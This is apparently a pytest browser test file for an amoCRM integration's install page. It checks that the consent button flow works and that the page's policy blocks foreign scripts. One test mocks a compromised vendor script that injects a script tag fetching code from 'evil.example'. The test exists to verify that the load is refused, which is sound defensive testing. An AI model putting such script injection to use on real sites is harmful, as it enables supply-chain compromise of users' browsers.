"""The install page in a real browser: its policy lets the vendor's button work, and nothing else (amocrm.md §1.4)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest

from hub.db.engine import Database
from hub.db.migrate import upgrade
from simulators.amocrm import AmoCrmSimulator
from tests.amocrm.house import CALLBACK, PASSWORD, House, house_for, open_house
from tests.web.browser import chromium

pytestmark = pytest.mark.timeout(120)

_BUTTON = """
(function () {
  var here = document.currentScript, told = here.dataset;
  var button = document.createElement('button');
  button.id = 'vendors-button';
  button.textContent = told.title;
  button.addEventListener('click', function () {
    window.open('https://www.amocrm.ru/oauth?' + new URLSearchParams(
      {state: told.state, redirect_uri: told.redirect_uri, secrets_uri: told.secrets_uri, name: told.name}), 'consent');
  });
  here.parentNode.insertBefore(button, here);
})();
"""
"""As the vendor's own does: it reads its data attributes and opens a window of its own."""


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    home: Path = tmp_path_factory.mktemp("home")
    address = f"sqlite:///{home / 'hub.sqlite3'}"
    upgrade(address)
    database = Database(address)
    made = house_for(database, home / "files")
    made.add_workspace()
    yield made
    database.close()


def test_the_button_leads_through_consent_back_to_a_connected_account(house: House) -> None:
    with AmoCrmSimulator(redirect_uri=CALLBACK) as amo, open_house(house) as hub, chromium() as browser:
        page = browser.new_page()
        complaints: list[str] = []
        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
        asked = _vendor(page, amo, hub)
        _log_in(page, hub)
        page.goto(f"{hub}/amocrm/install")
        with page.expect_popup() as opened:
            page.click("#vendors-button")
        opened.value.wait_for_url(f"{hub}/admin/connections/*")
        assert asked["secrets_uri"].endswith("/amocrm/secrets")
        assert asked["redirect_uri"] == CALLBACK
        assert complaints == []
    row = house.connection()
    assert (row.state, row.settings["account_id"]) == ("active", "555")
    assert amo.offences() == []


def test_the_page_shows_no_script_of_anybody_else(house: House) -> None:
    with open_house(house) as hub, chromium() as browser:
        page = browser.new_page()
        page.route("https://www.amocrm.ru/**", lambda route: route.fulfill(
            content_type="text/javascript",
            body="var s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
                 "document.head.appendChild(s); s.onerror = function () { console.log('refused'); };"))  # fmt: skip
        page.route("https://evil.example/**", lambda route: route.fulfill(
            content_type="text/javascript", body="console.log('owned')"))  # fmt: skip
        _log_in(page, hub)
        with page.expect_console_message(lambda message: message.text in {"refused", "owned"}) as told:
            page.goto(f"{hub}/amocrm/install")
        assert told.value.text == "refused"


def _log_in(page: Any, hub: str) -> None:
    page.goto(f"{hub}/admin/login")
    page.fill("input[name=email]", "owner@acme.example")
    page.fill("input[name=password]", PASSWORD)
    page.click("form.form button")
    page.wait_for_url(lambda url: "/login" not in url)


def _vendor(page: Any, amo: AmoCrmSimulator, hub: str) -> dict[str, str]:
    """The vendor's site: the button's script, and a consent that makes an integration and sends the browser back."""
    asked: dict[str, str] = {}

    def consent(route: Any) -> None:
        asked.update(parse_qsl(urlsplit(route.request.url).query))
        _, location = amo.press_button(f"{hub}/amocrm/secrets", asked["state"], asked["redirect_uri"])
        assert location is not None
        back = location.replace(CALLBACK, f"{hub}/amocrm/callback")
        route.fulfill(content_type="text/html", body=f"<script>location.replace({back!r})</script>")

    context = page.context
    script = "https://www.amocrm.ru/auth/button.min.js"
    context.route(script, lambda route: route.fulfill(content_type="text/javascript", body=_BUTTON))
    context.route("https://www.amocrm.ru/oauth?**", consent)
    return asked
